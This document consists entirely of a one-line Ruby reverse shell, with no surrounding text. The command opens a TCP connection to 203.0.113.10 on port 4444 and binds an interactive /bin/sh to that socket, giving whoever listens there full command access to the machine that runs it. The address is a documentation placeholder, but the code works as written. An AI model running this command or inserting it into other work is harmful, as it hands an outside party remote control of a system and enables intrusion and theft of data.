ruby -rsocket -e'f=TCPSocket.open("203.0.113.10",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
